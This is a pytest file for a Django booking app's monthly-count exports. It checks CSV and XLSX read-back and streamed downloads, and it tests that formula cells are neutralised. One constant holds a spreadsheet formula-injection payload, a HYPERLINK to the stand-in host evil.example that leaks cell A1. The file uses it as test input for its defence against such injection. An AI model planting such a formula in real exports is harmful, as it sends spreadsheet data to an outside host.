"""Exports of the monthly counts: rows, CSV and XLSX read back, formula cells neutralised."""

import calendar
import csv
import io
from datetime import date, time

import openpyxl
import pytest
from django.http import StreamingHttpResponse
from django.utils import translation

from bookings.reports import exports
from bookings.reports.counts import monthly_counts
from bookings.tests.factories import (
    CHECKED_IN,
    KNOWN_BOOKINGS,
    ONLINE,
    build_bookings,
    make_offices,
)
from bookings.tests.reports import EXPECTED_2017, WAIT_COLUMNS
from offices.tests.factories import OfficeFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'
ENGLISH_HEADER = [
    "Office code",
    "Office",
    "Year",
    "Month",
    "Month name",
    "Applicants served",
    "Online (checked in)",
    "Walk-ins",
    "Priority",
    "No-shows",
    "Cancelled",
    "Total bookings",
    "Group members booked",
    "Group members checked in",
    "Served: Umrah",
    "Served: Hajj",
    "Served: Tourism",
    "Served: Work",
    "Served: Study",
    "Served: Family visit",
    "Served: Other",
    # The waits, blank for months without calls at the counters (test_waits.py fills them).
    "Median wait (minutes)",
    "90th percentile wait (minutes)",
    "Median service (minutes)",
    "Applicants called",
    "Did not answer",
]


NO_WAITS = [None] * WAIT_COLUMNS


def as_csv(row):
    """Return a row as csv reads it back: a blank cell is an empty string."""
    return ["" if value is None else str(value) for value in row]


@pytest.fixture
def counts():
    offices = make_offices()
    build_bookings(offices, KNOWN_BOOKINGS)
    return monthly_counts(year=2017)


def expected_rows(counts):
    """Return the header and rows the exports must hold in English, built from the figures."""
    names = {r.office_code: r.office_name for r in counts}
    return [
        ENGLISH_HEADER,
        *[
            [code, names[code], 2017, month, calendar.month_name[month], *rest, *NO_WAITS]
            for code, month, *rest in EXPECTED_2017
        ],
    ]


def test_rows_start_with_the_header_then_one_row_per_office_and_month(counts):
    with translation.override("en"):
        rows = list(exports.monthly_count_rows(counts))
    assert rows == expected_rows(counts)
    assert rows[1][:5] == ["jayapura", "Kantor Imigrasi Kelas I Jayapura", 2017, 7, "July"]


def test_month_names_follow_the_active_language(counts):
    with translation.override("id"):
        rows = list(exports.monthly_count_rows(counts))
    assert len(rows[0]) == len(ENGLISH_HEADER)
    assert [row[4] for row in rows[1:4]] == ["Juli", "Agustus", "September"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+62812", "'+62812"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Palembang", "Palembang"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (0, 0),
        (4951, 4951),
        (None, None),
    ],
)
def test_neutralise_only_text_that_a_spreadsheet_would_run(value, expected):
    assert exports.neutralise(value) == expected


def test_csv_reads_back_as_the_figures(counts):
    stream = io.StringIO(newline="")
    with translation.override("en"):
        exports.write_csv(exports.monthly_count_rows(counts), stream)
    stream.seek(0)
    read = list(csv.reader(stream))
    assert read == [as_csv(row) for row in expected_rows(counts)]


def test_xlsx_reads_back_as_the_figures_with_numbers_as_numbers(counts):
    stream = io.BytesIO()
    with translation.override("en"):
        exports.write_xlsx(exports.monthly_count_rows(counts), stream, title="counts-2017")
    stream.seek(0)
    sheet = openpyxl.load_workbook(stream).active
    assert sheet.title == "counts-2017"
    read = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert read == expected_rows(counts)
    assert all(isinstance(value, int) for value in read[1][5:-WAIT_COLUMNS])


def formula_office_counts():
    office = OfficeFactory(code="evil", name=HYPERLINK, city="Evil")
    build_bookings(
        {"evil": office}, [("evil", date(2017, 7, 31), time(8), ONLINE, CHECKED_IN, "umrah", "")]
    )
    return monthly_counts(year=2017)


def test_a_formula_office_name_is_text_in_csv():
    stream = io.StringIO(newline="")
    exports.write_csv(exports.monthly_count_rows(formula_office_counts()), stream)
    stream.seek(0)
    row = list(csv.reader(stream))[1]
    assert row[:2] == ["evil", "'" + HYPERLINK]
    assert row[5] == "1"


def test_a_formula_office_name_is_text_in_xlsx():
    stream = io.BytesIO()
    exports.write_xlsx(exports.monthly_count_rows(formula_office_counts()), stream)
    stream.seek(0)
    sheet = openpyxl.load_workbook(stream).active
    name = sheet.cell(row=2, column=2)
    assert name.value == "'" + HYPERLINK
    assert name.data_type == "s"  # a string, not a formula
    assert sheet.cell(row=2, column=6).value == 1


def test_negative_numbers_stay_numbers():
    rows = [["Nilai"], [-3], ["-3"]]
    stream = io.BytesIO()
    exports.write_xlsx(rows, stream)
    stream.seek(0)
    sheet = openpyxl.load_workbook(stream).active
    assert [sheet.cell(row=n, column=1).value for n in (2, 3)] == [-3, "'-3"]
    assert list(exports.csv_lines(rows))[1:] == ["-3\r\n", "'-3\r\n"]


def test_control_characters_do_not_break_xlsx():
    stream = io.BytesIO()
    exports.write_xlsx([["Kanim\x00\x07 Palembang", 1]], stream, title="a/b:c[d]" * 5)
    stream.seek(0)
    sheet = openpyxl.load_workbook(stream).active
    assert sheet.cell(row=1, column=1).value == "Kanim Palembang"
    assert len(sheet.title) <= 31


def test_csv_download_is_streamed(counts):
    rows = list(exports.monthly_count_rows(counts))
    response = exports.download(rows, file_format="csv", filename="monthly-applicant-counts-2017")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="monthly-applicant-counts-2017.csv"'
    )
    body = b"".join(response.streaming_content).decode()
    assert list(csv.reader(io.StringIO(body))) == [as_csv(row) for row in rows]


def test_xlsx_download(counts):
    rows = list(exports.monthly_count_rows(counts))
    response = exports.download(rows, file_format="xlsx", filename="monthly-applicant-counts-2017")
    assert response["Content-Type"] == exports.CONTENT_TYPES["xlsx"]
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [list(row) for row in sheet.iter_rows(values_only=True)] == rows
